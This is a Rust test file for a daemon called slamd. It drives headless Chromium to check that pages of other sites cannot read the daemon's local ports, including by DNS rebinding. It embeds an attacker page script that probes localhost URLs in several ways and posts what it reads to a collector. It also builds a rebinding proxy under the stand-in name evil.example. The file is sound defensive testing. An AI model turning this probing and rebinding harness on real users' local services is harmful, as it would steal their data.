//! A real browser at the ports: the page of another site gets nothing from any of them, neither from its own origin nor by a name that leads
//! here (DNS rebinding); the owner's page gets what it asks for.
//!
//! Needs Debian's `chromium`. Without it the tests say so, but fail where the variable CI is set.

#![allow(clippy::unwrap_used, reason = "a test may")]

use serde_json::{Value, json};
use slamd_testkit::mock_port::Board;
#[cfg(feature = "viewer")]
use slamd_testkit::mock_port::{Device, Plugged, daemon::Daemon};
use slamd_testkit::served::{SOON, Served};
use std::io::{self, BufRead as _, BufReader, Read as _, Write as _};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::process::{Child, Command, Stdio};
use std::sync::mpsc::{Receiver, channel};
use std::time::Duration;

const BROWSERS: [&str; 3] = ["chromium", "chromium-browser", "google-chrome"];
/// Time for the browser to start and for its page to try everything, on a loaded machine.
const PATIENCE: Duration = Duration::from_secs(120);
/// The attacker's name. The browser believes it to lead to [`AWAY`].
const NAME: &str = "evil.example";
const AWAY: &str = "127.0.0.2";
/// A read of the session, as the web viewer asks for it.
#[cfg(feature = "viewer")]
const READ: &str = "rerun.sdk_comms.v1alpha1.MessageProxyService/ReadMessages";

/// What a page tries at each URL: all that a script can read an answer by.
const PAGE: &str = r#"<!doctype html><meta charset="utf-8"><body><script>
const text = bytes => new TextDecoder("latin1").decode(bytes);
const late = (what, ms) => Promise.race([what, new Promise((_, no) => setTimeout(() => no("late"), ms))]);
async function read(url, options) {
    const answer = await fetch(url, options);
    if (!answer.body) return [answer.type, answer.status, ""];
    const reader = answer.body.getReader();
    let got = "";
    while (got.length < 200) {
        const { done, value } = await reader.read();
        if (done) break;
        got += text(value);
    }
    reader.cancel();
    return [answer.type, answer.status, got];
}
const frame = new Uint8Array(5);
const binary = { "Content-Type": "application/grpc-web+proto", "X-Grpc-Web": "1" };
const ways = {
    get: url => read(url),
    opaque: url => read(url, { mode: "no-cors" }),
    post: url => read(url, { method: "POST", body: "?WATCH;\n" }),
    form: url => read(url, { method: "POST", mode: "no-cors", body: "?POLL;\n?WATCH;\n" }),
    grpc: url => read(url, { method: "POST", headers: binary, body: frame }),
    frame: url => new Promise((yes, no) => {
        const frame = document.createElement("iframe");
        frame.onload = () => {
            try { yes(["frame", 0, frame.contentDocument.documentElement.innerText]) } catch (error) { no(error) }
        };
        frame.src = url;
        document.body.append(frame);
    }),
    socket: url => new Promise((yes, no) => {
        const socket = new WebSocket(url.replace("http", "ws"));
        socket.onopen = () => yes(["socket", 0, "open"]);
        socket.onmessage = message => yes(["socket", 0, String(message.data)]);
        socket.onerror = () => no("closed");
    }),
    events: url => new Promise((yes, no) => {
        const source = new EventSource(url);
        source.onopen = () => yes(["events", 0, "open"]);
        source.onerror = () => { source.close(); no("closed") };
    }),
};
(async () => {
    const tries = [];
    for (const url of URLS) {
        for (const [way, run] of Object.entries(ways)) {
            tries.push(late(run(url), 8000).then(
                ([type, status, got]) => ({ url, way, type, status, got }),
                error => ({ url, way, error: String(error) })));
        }
    }
    fetch(TOLD, { method: "POST", mode: "no-cors", body: JSON.stringify(await Promise.all(tries)) });
})();
</script>"#;

fn browser() -> Option<&'static str> {
    let is_there = |name: &&&str| Command::new(name).arg("--version").output().is_ok_and(|it| it.status.success());
    let found = BROWSERS.iter().find(is_there).copied();
    assert!(found.is_some() || std::env::var_os("CI").is_none(), "no browser: apt-get install chromium");
    if found.is_none() {
        println!("not tested: no browser; Debian's package is chromium");
    }
    found
}

/// A browser that shows one page; it ends when dropped.
struct Browser {
    child: Child,
    _profile: tempfile::TempDir,
}

impl Browser {
    fn open(program: &str, url: &str) -> Self {
        let profile = tempfile::tempdir().unwrap();
        let mut command = Command::new(program);
        // As root, and in a container, a browser has no sandbox of its own. Its pages here are ours.
        command.args(["--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run"]);
        command.args(["--no-proxy-server", "--disable-background-networking", "--disable-component-update"]);
        command.arg(format!("--host-resolver-rules=MAP {NAME} {AWAY}"));
        command.arg(format!("--user-data-dir={}", profile.path().display())).arg(url);
        command.env("HOME", profile.path()).env("XDG_RUNTIME_DIR", profile.path());
        let child = command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap();
        Self { child, _profile: profile }
    }
}

impl Drop for Browser {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Head and body of a request.
fn request(stream: &TcpStream) -> Option<(String, Vec<u8>)> {
    let mut reader = BufReader::new(stream);
    let mut head = String::new();
    while !head.ends_with("\r\n\r\n") {
        if reader.read_line(&mut head).ok()? == 0 {
            return None;
        }
    }
    let length = head.lines().find_map(|line| {
        let (name, value) = line.split_once(':')?;
        name.eq_ignore_ascii_case("content-length").then(|| value.trim().parse().unwrap())
    });
    let mut body = vec![0; length.unwrap_or(0)];
    reader.read_exact(&mut body).ok()?;
    Some((head, body))
}

/// Serves connections one by one, each on a thread of its own, until the test ends.
fn listen(address: &str, serve: impl Fn(TcpStream) + Send + Sync + 'static) -> SocketAddr {
    let listener = TcpListener::bind(address).unwrap_or_else(|error| panic!("{address}: {error}"));
    let bound = listener.local_addr().unwrap();
    let serve = std::sync::Arc::new(serve);
    std::thread::spawn(move || {
        for stream in listener.incoming().map_while(Result::ok) {
            let serve = std::sync::Arc::clone(&serve);
            std::thread::spawn(move || serve(stream));
        }
    });
    bound
}

/// Where pages tell what they got.
fn collector() -> (String, Receiver<Value>) {
    let (sender, receiver) = channel();
    let address = listen("127.0.0.1:0", move |mut stream| {
        if let Some((_, body)) = request(&stream) {
            let _ = sender.send(serde_json::from_slice(&body).unwrap());
            let _ = stream.write_all(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n");
        }
    });
    (format!("http://{address}/"), receiver)
}

fn answer(stream: &mut TcpStream, page: &str) {
    let head = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nCache-Control: no-store\r\nConnection: close";
    let _ = write!(stream, "{head}\r\nContent-Length: {}\r\n\r\n{page}", page.len());
}

/// A web server with one page.
fn site(address: &str, page: String) -> SocketAddr {
    listen(address, move |mut stream| {
        if request(&stream).is_some() {
            answer(&mut stream, &page);
        }
    })
}

/// A name that leads to the attacker at first, and to slamd from then on: its first connection gets the page, what follows is passed on byte by
/// byte.
fn rebinding(port: u16, page: String) {
    let is_shown = std::sync::atomic::AtomicBool::new(false);
    listen(&format!("{AWAY}:{port}"), move |mut client| {
        let mut first = [0; 1];
        // A browser opens connections in advance, too.
        if client.peek(&mut first).unwrap_or(0) == 0 {
            return;
        }
        if !is_shown.swap(true, std::sync::atomic::Ordering::SeqCst) {
            request(&client);
            answer(&mut client, &page);
            return;
        }
        let Ok(mut slamd) = TcpStream::connect(("127.0.0.1", port)) else { return };
        let (mut from, mut to) = (client.try_clone().unwrap(), slamd.try_clone().unwrap());
        std::thread::spawn(move || {
            let _ = io::copy(&mut from, &mut to);
            let _ = to.shutdown(std::net::Shutdown::Write);
        });
        let _ = io::copy(&mut slamd, &mut client);
        let _ = client.shutdown(std::net::Shutdown::Both);
    });
}

/// The page that tries these URLs and tells a collector.
fn page(urls: &[String], told: &str) -> String {
    let script = format!("<script>const URLS = {}, TOLD = {};</script>", json!(urls), json!(told));
    format!("{script}{PAGE}")
}

/// What a page has told, of each URL in each way.
fn told(browser: &str, url: &str, results: &Receiver<Value>) -> Vec<Value> {
    let _browser = Browser::open(browser, url);
    let result = results.recv_timeout(PATIENCE).unwrap_or_else(|error| panic!("{url} tells nothing: {error}"));
    result.as_array().unwrap().clone()
}

/// Nothing of the session was read: no answer, or the one line that says what is refused.
fn assert_nothing(told: &[Value], who: &str) {
    assert!(!told.is_empty());
    for one in told {
        let got = one["got"].as_str().unwrap_or_default();
        let refused = got.starts_with("refused: ") && got.trim_end().lines().count() == 1;
        // What a browser shows in place of a page that it could not load, or whose answer is empty.
        let empty = one["error"].is_string() || got.is_empty();
        assert!(refused || empty, "{who}: {one}");
    }
}

/// A page of another origin, under each name that it can have, and one whose name is led to slamd.
fn strangers_get_nothing(browser: &str, ports: &[u16], paths: &[&str]) {
    let urls = |host: &str, ports: &[u16]| -> Vec<String> {
        let of_port = |port: &u16| paths.iter().map(|path| format!("http://{host}:{port}{path}")).collect::<Vec<_>>();
        ports.iter().flat_map(of_port).collect()
    };
    let (collected, results) = collector();
    let elsewhere = site("127.0.0.1:0", page(&urls("127.0.0.1", ports), &collected)).port();
    assert_nothing(&told(browser, &format!("http://127.0.0.1:{elsewhere}/"), &results), "another port");
    let elsewhere = site(&format!("{AWAY}:0"), page(&urls("127.0.0.1", ports), &collected)).port();
    assert_nothing(&told(browser, &format!("http://{NAME}:{elsewhere}/"), &results), "another site");
    for port in ports {
        rebinding(*port, page(&urls(NAME, &[*port]), &collected));
        assert_nothing(&told(browser, &format!("http://{NAME}:{port}/"), &results), "a name that leads here");
    }
}

#[test]
fn a_server_that_does_not_ask_is_read_by_a_name_that_leads_to_it() {
    let Some(browser) = browser() else { return };
    let (collected, results) = collector();
    let port = site("127.0.0.1:0", "the session".into()).port();
    rebinding(port, page(&[format!("http://{NAME}:{port}/")], &collected));
    let told = told(browser, &format!("http://{NAME}:{port}/"), &results);
    for way in ["get", "post", "grpc", "frame"] {
        let one = told.iter().find(|one| one["way"] == way).unwrap();
        assert!(one["got"].as_str().unwrap_or_default().contains("the session"), "{one}");
    }
}

#[test]
fn pages_of_other_sites_get_nothing_from_api_and_metrics() {
    let Some(browser) = browser() else { return };
    let mut served = Served::new(&["--listen", "127.0.0.1:0", "--metrics", "127.0.0.1:0"]);
    let ports = [(); 2].map(|()| served.address().rsplit(':').next().unwrap().parse::<u16>().unwrap());
    let _board = served.plug_in(Board::robot(1));
    served.daemon.expect("poses and map begin", SOON);
    strangers_get_nothing(browser, &ports, &["/metrics", "/healthz", "/"]);
    // The owner opens the page itself, by an address and as localhost: a script of the same origin reads it.
    for host in ["127.0.0.1", "localhost"] {
        let url = format!("http://{host}:{}", ports[1]);
        let shown = dump(browser, &format!("{url}/metrics"));
        assert!(shown.contains("slamd_sweeps_total "), "{shown}");
        let shown = dump(browser, &format!("{url}/healthz"));
        assert!(shown.contains("streaming"), "{shown}");
    }
    served.daemon.end();
}

/// What a browser shows of an address.
fn dump(browser: &str, url: &str) -> String {
    let profile = tempfile::tempdir().unwrap();
    let mut command = Command::new(browser);
    command.args(["--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-proxy-server"]);
    command.arg(format!("--user-data-dir={}", profile.path().display())).arg("--dump-dom").arg(url);
    let output = command.env("HOME", profile.path()).stderr(Stdio::null()).output().unwrap();
    String::from_utf8_lossy(&output.stdout).into_owned()
}

#[cfg(feature = "viewer")]
#[test]
fn pages_of_other_sites_get_nothing_from_the_viewers_port_and_the_web_viewer_does() {
    use std::os::unix::fs::PermissionsExt as _;
    let Some(browser) = browser() else { return };
    let folder = tempfile::tempdir().unwrap();
    // The installed viewer, whose page this test serves in its place.
    let program = folder.path().join("rerun");
    std::fs::write(&program, "#!/bin/sh\nexec sleep 120\n").unwrap();
    std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o755)).unwrap();
    let name = folder.path().join("robot");
    let _robot = Plugged::new(&name, Device::new(Board::robot(4), 4));
    let port = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let mut command = Command::new(env!("CARGO_BIN_EXE_slamd"));
    command.arg("--port").arg(&name).arg("--out").arg(folder.path().join("out"));
    command.args(["--viewer", &format!("serve={port}"), "--viewer", "web"]);
    command.env("PATH", format!("{}:{}", folder.path().display(), std::env::var("PATH").unwrap()));
    let mut daemon = Daemon::run(command);
    let (_, line) = daemon.line("in a browser at http://", SOON);
    let page_address = line.split_once("http://").unwrap().1.split(['?', '/']).next().unwrap().to_owned();
    daemon.expect("poses and map begin", SOON);
    let read = format!("/{READ}");
    strangers_get_nothing(browser, &[port], &["/", &read]);
    let (collected, results) = collector();
    site(&page_address, page(&[format!("http://127.0.0.1:{port}{read}")], &collected));
    let told = told(browser, &format!("http://{page_address}/"), &results);
    let session = told.iter().find(|one| one["way"] == "grpc").unwrap();
    assert!(session["status"] == 200 && session["got"].as_str().unwrap().len() >= 200, "{session}");
    daemon.end();
}
